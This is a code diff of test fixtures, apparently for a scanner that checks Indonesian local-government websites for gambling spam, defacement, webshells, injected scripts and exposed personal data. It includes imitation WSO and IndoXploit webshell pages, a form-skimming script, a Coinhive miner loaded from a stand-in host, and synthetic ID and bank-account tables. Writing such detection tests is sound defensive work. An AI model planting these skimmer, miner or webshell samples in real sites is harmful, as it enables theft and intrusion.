@@ -60,7 +60,14 @@ _SITEMAP = (
     "<?xml version='1.0' encoding='UTF-8'?><urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'>"
     + "".join(
         f"<url><loc>https://sisip-peta-situs.kabcontoh.go.id/{name}/</loc></url>"
-        for name in ("profil", "slot-gacor-hari-ini", "situs-slot-maxwin", "rtp-live-pragmatic", "togel-online-4d", "slot-deposit-pulsa")
+        for name in (
+            "profil",
+            "slot-gacor-hari-ini",
+            "situs-slot-maxwin",
+            "rtp-live-pragmatic",
+            "togel-online-4d",
+            "slot-deposit-pulsa",
+        )
     )
     + "</urlset>"
 )
@@ -107,10 +114,26 @@ _ACCORDION = OFFICE.replace(
 )
 _MENU_NESTED = page(
     "Dinas",
-    "<nav><ul class='menu'><li>Layanan<ul>" + "".join(f"<li><a href='https://mitra{n}.example/daftar'>Daftar layanan {n}</a></li>" for n in range(9)) + "</ul></li></ul></nav>" + _NEWS,
+    "<nav><ul class='menu'><li>Layanan<ul>"
+    + "".join(f"<li><a href='https://mitra{n}.example/daftar'>Daftar layanan {n}</a></li>" for n in range(9))
+    + "</ul></li></ul></nav>"
+    + _NEWS,
     "<style>.menu li ul{display:none}.menu li ul li a{text-indent:0}</style>",
 )
-_CLEAN_SITEMAP = "<?xml version='1.0'?><urlset>" + "".join(f"<url><loc>https://x.go.id/berita/{name}</loc></url>" for name in ("polisi-tangkap-bandar-slot-gacor", "bahaya-judi-slot-online", "kominfo-blokir-situs-togel", "stop-judi-bola", "razia-togel-online")) + "</urlset>"
+_CLEAN_SITEMAP = (
+    "<?xml version='1.0'?><urlset>"
+    + "".join(
+        f"<url><loc>https://x.go.id/berita/{name}</loc></url>"
+        for name in (
+            "polisi-tangkap-bandar-slot-gacor",
+            "bahaya-judi-slot-online",
+            "kominfo-blokir-situs-togel",
+            "stop-judi-bola",
+            "razia-togel-online",
+        )
+    )
+    + "</urlset>"
+)
 
 GAMBLING_CLEAN = (
     Case("bukan-obat", _one(_HEALTH)),
@@ -134,9 +157,7 @@ _WSO = (
     "<input type=hidden name=p2><input type=hidden name=p3><input type=hidden name=charset></form><table class=info><tr><td>Uname: Linux web01 5.15.0-91-generic #101-Ubuntu SMP x86_64<br>User: 33 ( www-data )"
     "<br>Php: 8.1.2 Safe mode: OFF<br>Cwd: /var/www/html/uploads/</td></tr></table></body></html>"
 )
-_MINI = (
-    "<html><body><b>Linux srv1 4.18.0-513.el8.x86_64 #1 SMP Thu Dec 7 x86_64</b><br><form method='post' enctype='multipart/form-data'><input type='file' name='f'><input type='submit' value='Upload'></form></body></html>"
-)
+_MINI = "<html><body><b>Linux srv1 4.18.0-513.el8.x86_64 #1 SMP Thu Dec 7 x86_64</b><br><form method='post' enctype='multipart/form-data'><input type='file' name='f'><input type='submit' value='Upload'></form></body></html>"
 _INDOX = (
     "<html><head><title>IndoXploit</title></head><body>System: Linux host 3.10.0 x86_64<br>Safe Mode: OFF<br><a href='?dir=/var/www&do=upload'>Upload</a><a href='?dir=/var/www&do=cmd'>Command</a>"
     "<a href='?dir=/var/www&do=mass_deface'>Mass Deface</a><a href='?dir=/var/www&do=config'>Config</a><a href='?dir=/var/www&do=jumping'>Jumping</a><a href='?dir=/var/www&do=symlink'>Symlink</a></body></html>"
@@ -152,12 +173,12 @@ DEFACED = (
     Case("cangkang-wso", _linked("/uploads/x.php", _WSO), {"defacement": fail("/uploads/x.php")}),
     Case("cangkang-mini", _linked("/images/up.php", _MINI), {"defacement": fail("/images/up.php")}),
     Case("cangkang-terdaftar", pages({"/": OFFICE, "/uploads/": _UPLOAD_LIST, "/uploads/alfa.php": _INDOX}), {"defacement": fail("/uploads/alfa.php"), "directory-listing": fail("/uploads/")}),
-    Case("cangkang-terkunci", pages({"/": OFFICE, "/uploads/": _UPLOAD_LIST, "/uploads/alfa.php": _LOCKED}), {"defacement": fail("/uploads/alfa.php"), "directory-listing": fail("/uploads/")}, unsure=frozenset(("admin-pages",))),
+    Case("cangkang-terkunci", pages({"/": OFFICE, "/uploads/": _UPLOAD_LIST, "/uploads/alfa.php": _LOCKED}), {"defacement": fail("/uploads/alfa.php"), "directory-listing": fail("/uploads/"), "admin-pages": fail("/uploads/alfa.php"), "login-barrier": fail("/uploads/alfa.php")}),
 )  # fmt: skip
 
 _STORY = page(
     "Situs Pemkab Sebelah Diretas, Muncul Tulisan Hacked by Kr4ken",
-    "<p>Situs pemerintah kabupaten diretas. Pada halaman depan muncul tulisan \"Hacked by Kr4ken, your security is low, greetz to all\". Polisi dan BSSN menyelidiki. Menurut pakar, celah berasal dari plugin usang.</p>",
+    '<p>Situs pemerintah kabupaten diretas. Pada halaman depan muncul tulisan "Hacked by Kr4ken, your security is low, greetz to all". Polisi dan BSSN menyelidiki. Menurut pakar, celah berasal dari plugin usang.</p>',
 )
 _LESSON = page(
     "Modul Pelatihan: Mengenali Webshell",
@@ -168,17 +189,29 @@ _PHPINFO = (
     "<html><head><title>phpinfo()</title></head><body><h1>PHP Version 8.1.2</h1><table><tr><td>System</td><td>Linux web01 5.15.0-91-generic #101-Ubuntu SMP x86_64</td></tr></table>"
     "<form action='/cari'><input name='q'></form></body></html>"
 )
-_CATALOGUE = page("Katalog Perpustakaan", _MENU + "<h2>Hacked: Kisah Seorang Peretas</h2><h2>Touched by the Sun</h2><h2>Kilroy Was Here</h2><p>Buku baru bulan ini.</p>")
-_UPLOADER = page("Unggah Berkas Permohonan", "<form method='post' action='/unggah' enctype='multipart/form-data'><label>Berkas <input type='file' name='berkas'></label><button>Kirim</button></form>" + _MENU)
-_GALLERY = page("Akses Galeri Internal", "<form method='post' action='/galeri/masuk'><label>Kata sandi <input type='password' name='sandi'></label><button>Buka</button></form><p>Galeri ini khusus pegawai.</p>" + _MENU)
+_CATALOGUE = page(
+    "Katalog Perpustakaan",
+    _MENU
+    + "<h2>Hacked: Kisah Seorang Peretas</h2><h2>Touched by the Sun</h2><h2>Kilroy Was Here</h2><p>Buku baru bulan ini.</p>",
+)
+_UPLOADER = page(
+    "Unggah Berkas Permohonan",
+    "<form method='post' action='/unggah' enctype='multipart/form-data'><label>Berkas <input type='file' name='berkas'></label><button>Kirim</button></form>"
+    + _MENU,
+)
+_GALLERY = page(
+    "Akses Galeri Internal",
+    "<form method='post' action='/galeri/masuk'><label>Kata sandi <input type='password' name='sandi'></label><button>Buka</button></form><p>Galeri ini khusus pegawai.</p>"
+    + _MENU,
+)
 
 DEFACED_CLEAN = (
     Case("bukan-wajah-berita", _one(_STORY)),
     Case("bukan-wajah-modul", _one(_LESSON)),
-    Case("bukan-cangkang-phpinfo", _linked("/files/info.php", _PHPINFO), unsure=frozenset(("debug-pages",)), faults={"debug-pages": fail("/files/info.php")}),
+    Case("bukan-cangkang-phpinfo", _linked("/files/info.php", _PHPINFO), unsure=frozenset(("debug-pages",))),
     Case("bukan-wajah-katalog", _one(_CATALOGUE)),
     Case("bukan-cangkang-unggah", _one(_UPLOADER)),
-    Case("bukan-cangkang-galeri", _linked("/galeri/akses.php", _GALLERY), blind=frozenset(("admin-pages", "login-barrier"))),
+    Case("bukan-cangkang-galeri", _linked("/galeri/akses.php", _GALLERY), {"admin-pages": fail("/galeri/akses.php"), "login-barrier": fail("/galeri/akses.php")}),
 )  # fmt: skip
 
 
@@ -195,7 +228,7 @@ _SKIM = "<script>document.querySelector('form').addEventListener('submit',functi
 _MINER = "<script src='https://cdn-x.example/coinhive.min.js'></script><script>new CoinHive.Anonymous('abc',{throttle:0.3}).start()</script>"
 _GA = "<script>document.write(unescape(\"%3Cscript src='https://ssl.google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E\"));</script>"
 _PACKED = "<script>eval(function(p,a,c,k,e,d){e=function(c){return c};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0 1(2)',3,3,'function|slider|x'.split('|')))</script>"
-_MAIL_CODES = ",".join(str(ord(char)) for char in "<a href=\"mailto:humas@kabcontoh.go.id\">humas</a>")
+_MAIL_CODES = ",".join(str(ord(char)) for char in '<a href="mailto:humas@kabcontoh.go.id">humas</a>')
 _MAIL = f"<script>document.write(String.fromCharCode({_MAIL_CODES}))</script>"
 _PIXEL = "<script>navigator.sendBeacon('https://www.google-analytics.com/collect',encodeURIComponent(location.href));document.addEventListener('click',function(){})</script>"
 _GTM = "<noscript><iframe src='https://www.googletagmanager.com/ns.html?id=GTM-X' height='0' width='0' style='display:none;visibility:hidden'></iframe></noscript>"
@@ -227,7 +260,10 @@ def _portal(start: int, extra: str = "", title: str = "Portal Kabupaten Contoh",
         f"<li class='item slide-{n}'><a href='/berita/{n}'>Warta {n}: {('panen raya', 'posyandu', 'jalan baru', 'pasar murah', 'sekolah')[n % 5]} di desa {n}</a><time class='tgl'>{n % 28 + 1} November 2026</time></li>"
         for n in range(start, start + 12)
     )
-    return page(title, f"{_MENU}<div class='carousel'><ul class='daftar'>{items}</ul></div><aside class='hit'>Pengunjung: {start * 371}</aside>{extra}").replace("lang=\"id\"", f"lang=\"{lang}\"")
+    return page(
+        title,
+        f"{_MENU}<div class='carousel'><ul class='daftar'>{items}</ul></div><aside class='hit'>Pengunjung: {start * 371}</aside>{extra}",
+    ).replace('lang="id"', f'lang="{lang}"')
 
 
 _REDESIGN = (
@@ -253,7 +289,20 @@ def _nik(n: int, woman: bool = False) -> str:
     return f"3204{n % 30 + 1:02d}{n % 27 + 1 + (40 if woman else 0):02d}{n % 12 + 1:02d}{(60 + n) % 100:02d}{n % 7 + 1:04d}"
 
 
-_PEOPLE = ("Asep Sunandar", "Siti Aminah", "Budi Hartono", "Neneng Rohaeti", "Ujang Suryana", "Dewi Lestari", "Agus Salim", "Rina Marlina", "Dadang Hidayat", "Euis Komariah", "Cecep Rahmat", "Wati Kurnia")
+_PEOPLE = (
+    "Asep Sunandar",
+    "Siti Aminah",
+    "Budi Hartono",
+    "Neneng Rohaeti",
+    "Ujang Suryana",
+    "Dewi Lestari",
+    "Agus Salim",
+    "Rina Marlina",
+    "Dadang Hidayat",
+    "Euis Komariah",
+    "Cecep Rahmat",
+    "Wati Kurnia",
+)
 
 
 def _table(heads: tuple[str, ...], rows: list[tuple[str, ...]]) -> str:
@@ -262,10 +311,24 @@ def _table(heads: tuple[str, ...], rows: list[tuple[str, ...]]) -> str:
     return f"<table class='tabel'><thead><tr>{head}</tr></thead><tbody>{body}</tbody></table>"
 
 
-_AID = _table(("No", "Nama", "NIK", "Alamat"), [(str(n), who, _nik(n, n % 2 == 0), f"RT 0{n % 5 + 1} RW 02") for n, who in enumerate(_PEOPLE, 1)])
-_JSON = "[" + ",".join(f'{{"nama":"{who}","nik":"{_nik(n)}","no_kk":"320412010119000{n % 10}"}}' for n, who in enumerate(_PEOPLE, 1)) + "]"
-_ACCOUNTS = _table(("Nama Penerima", "Bank", "No. Rekening"), [(who, "BRI", f"41200100{n:04d}507") for n, who in enumerate(_PEOPLE, 1)])
-_PHONES = _table(("Nama Siswa", "Alamat", "No HP Orang Tua"), [(who, f"Jl. Melati {n}", f"0812{n:04d}{n * 37 % 10000:04d}") for n, who in enumerate(_PEOPLE, 1)])
+_AID = _table(
+    ("No", "Nama", "NIK", "Alamat"),
+    [(str(n), who, _nik(n, n % 2 == 0), f"RT 0{n % 5 + 1} RW 02") for n, who in enumerate(_PEOPLE, 1)],
+)
+_JSON = (
+    "["
+    + ",".join(
+        f'{{"nama":"{who}","nik":"{_nik(n)}","no_kk":"320412010119000{n % 10}"}}' for n, who in enumerate(_PEOPLE, 1)
+    )
+    + "]"
+)
+_ACCOUNTS = _table(
+    ("Nama Penerima", "Bank", "No. Rekening"), [(who, "BRI", f"41200100{n:04d}507") for n, who in enumerate(_PEOPLE, 1)]
+)
+_PHONES = _table(
+    ("Nama Siswa", "Alamat", "No HP Orang Tua"),
+    [(who, f"Jl. Melati {n}", f"0812{n:04d}{n * 37 % 10000:04d}") for n, who in enumerate(_PEOPLE, 1)],
+)
 _NPWPS = _table(("Nama", "NPWP"), [(who, f"0{n % 9 + 1}.254.{n:03d}.3-407.000") for n, who in enumerate(_PEOPLE, 1)])
 
 PERSONAL = (
@@ -278,14 +341,50 @@ PERSONAL = (
 )  # fmt: skip
 
 _MASKED = _AID.replace("3204", "3204********").replace("<td>3204********", "<td>3204********")
-_NIP = _table(("Nama", "NIP", "Jabatan", "No HP"), [(who, f"19{70 + n}0{n % 9 + 1}1{n % 9} 200{n % 9}01 {n % 2 + 1} 00{n % 9 + 1}", "Kepala Seksi", f"0813{n:04d}{n * 53 % 10000:04d}") for n, who in enumerate(_PEOPLE, 1)])
-_NUPTK = _table(("Nama Guru", "NUPTK"), [(who, f"{(n * 1237 + 4000) % 9000 + 1000}7{n % 10}{(n * 31) % 90 + 10}30{(n * 7) % 90 + 10}0{n % 9 + 1}{n * 11 % 90 + 10}") for n, who in enumerate(_PEOPLE, 1)])
-_INVOICES = _table(("No", "Nomor Invoice", "Nilai"), [(str(n), f"20261101{n * 7919 % 100000000:08d}", f"Rp{n * 125}.000.000,00") for n in range(1, 15)])
+_NIP = _table(
+    ("Nama", "NIP", "Jabatan", "No HP"),
+    [
+        (
+            who,
+            f"19{70 + n}0{n % 9 + 1}1{n % 9} 200{n % 9}01 {n % 2 + 1} 00{n % 9 + 1}",
+            "Kepala Seksi",
+            f"0813{n:04d}{n * 53 % 10000:04d}",
+        )
+        for n, who in enumerate(_PEOPLE, 1)
+    ],
+)
+_NUPTK = _table(
+    ("Nama Guru", "NUPTK"),
+    [
+        (
+            who,
+            f"{(n * 1237 + 4000) % 9000 + 1000}7{n % 10}{(n * 31) % 90 + 10}30{(n * 7) % 90 + 10}0{n % 9 + 1}{n * 11 % 90 + 10}",
+        )
+        for n, who in enumerate(_PEOPLE, 1)
+    ],
+)
+_INVOICES = _table(
+    ("No", "Nomor Invoice", "Nilai"),
+    [(str(n), f"20261101{n * 7919 % 100000000:08d}", f"Rp{n * 125}.000.000,00") for n in range(1, 15)],
+)
 _VENDORS = _table(("Nama Penyedia", "NPWP"), [(f"CV Maju Jaya {n}", f"02.131.{n:03d}.1-421.000") for n in range(1, 12)])
-_BUDGET = _table(("Kode Rekening", "Uraian", "Jumlah"), [(f"5.1.02.01.01.{n:04d}", "Belanja alat tulis kantor", f"{n * 1250000}") for n in range(1, 12)])
-_OFFICES = _table(("Puskesmas", "Alamat", "Call Center"), [(f"Puskesmas {n}", f"Jl. Raya {n}", f"0812{n:04d}{n * 91 % 10000:04d}") for n in range(1, 16)])
+_BUDGET = _table(
+    ("Kode Rekening", "Uraian", "Jumlah"),
+    [(f"5.1.02.01.01.{n:04d}", "Belanja alat tulis kantor", f"{n * 1250000}") for n in range(1, 12)],
+)
+_OFFICES = _table(
+    ("Puskesmas", "Alamat", "Call Center"),
+    [(f"Puskesmas {n}", f"Jl. Raya {n}", f"0812{n:04d}{n * 91 % 10000:04d}") for n in range(1, 16)],
+)
 _BLANK = "<form method='post' action='/daftar'><label>NIK: <input name='nik' maxlength='16' placeholder='3204xxxxxxxxxxxx'></label><label>No KK: <input name='kk'></label></form><p>Contoh NIK: 3204110101900001. NIK: ____________</p>"
-_HASHES = "<ul>" + "".join(f"<li>{(n * 6364136223846793005 + 1442695040888963407) % 10**16:016d} arsip surat {n}</li>" for n in range(1, 25)) + "</ul><p>Nomor registrasi penduduk miskin ekstrem dirahasiakan.</p>"
+_HASHES = (
+    "<ul>"
+    + "".join(
+        f"<li>{(n * 6364136223846793005 + 1442695040888963407) % 10**16:016d} arsip surat {n}</li>"
+        for n in range(1, 25)
+    )
+    + "</ul><p>Nomor registrasi penduduk miskin ekstrem dirahasiakan.</p>"
+)
 
 PERSONAL_CLEAN = (
     Case("bukan-pribadi-samar", _one(page("Penerima Bantuan", _MASKED))),
